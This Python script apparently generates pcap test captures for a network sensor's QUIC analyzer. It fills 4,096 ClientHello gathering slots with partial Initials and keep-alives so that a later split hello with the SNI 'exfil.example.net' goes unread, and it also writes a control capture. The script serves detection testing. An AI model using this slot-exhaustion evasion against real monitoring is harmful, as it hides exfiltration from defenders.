#!/usr/bin/python3
"""quic_gather_fill.py - fill QUIC_GATHER_MAX (analyzers/quic.c) to hide a QUIC SNI.

The agent sends, from 4,096 UDP source ports, one client Initial each that
carries only the first 100 bytes of a ClientHello (CRYPTO offset 0): each flow
takes a gathering slot that is never given back before the flow ends. Every
50 s (under the 60 s UDP idle expiry) it sends one 8-byte datagram on each
flow so that none expires. Its real connection (SNI exfil.example.net, the
hello in two Initial datagrams as Chrome sends one with an ML-KEM key share)
comes at t=110 s, 50 s after the first expiry would have freed the slots.
(The fillers are 140-byte Initials to keep the capture small; the sensor
reads them as it reads 1,200-byte ones.)
  quic_gather_fill.pcap     fillers + keep-alives + the real connection, then a
                            hello in one datagram (single.example.net: read)
  quic_gather_control.pcap  the real connection alone (control)
usage: quic_gather_fill.py OUTDIR"""
import os, sys
here = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, here)
sys.path.insert(0, os.path.join(here, ".."))
from gen_quic import initial, crypto_frame, with_sni, V1
from udpgen import Pcap

out = sys.argv[1] if len(sys.argv) > 1 else here
AGENT, SERVER = "10.1.0.2", "198.51.100.7"
T0 = 1_700_000_000.0
N = 4096

def real(p, t):
    hello = with_sni(b"exfil.example.net")
    dcid = bytes.fromhex("5566778899aabbcc")
    p.udp(AGENT, SERVER, 55555, 443, initial(V1, dcid, 0, crypto_frame(0, hello[:100])), t=t)
    p.udp(AGENT, SERVER, 55555, 443, initial(V1, dcid, 1, crypto_frame(100, hello[100:])), t=t + 0.001)

p = Pcap(os.path.join(out, "quic_gather_fill.pcap"))
part = with_sni(b"filler.invalid")[:100]
t = T0
for i in range(N):
    dcid = i.to_bytes(8, "big")
    p.udp(AGENT, SERVER, 20000 + i, 443, initial(V1, dcid, 0, crypto_frame(0, part), plen=140), t=t)
    t += 0.0001
for k in (50, 100):  # keep-alives (not QUIC: 8 bytes)
    for i in range(N):
        p.udp(AGENT, SERVER, 20000 + i, 443, b"keepaliv", t=T0 + k + i * 0.0001)
real(p, T0 + 110)
# a hello one datagram holds (checked sound: read even with the slots full)
p.udp(AGENT, SERVER, 55556, 443, initial(V1, bytes.fromhex("0102030405060708"), 0,
                                          crypto_frame(0, with_sni(b"single.example.net"))), t=T0 + 111)
p.close()

p = Pcap(os.path.join(out, "quic_gather_control.pcap"))
real(p, T0 + 110)
p.close()
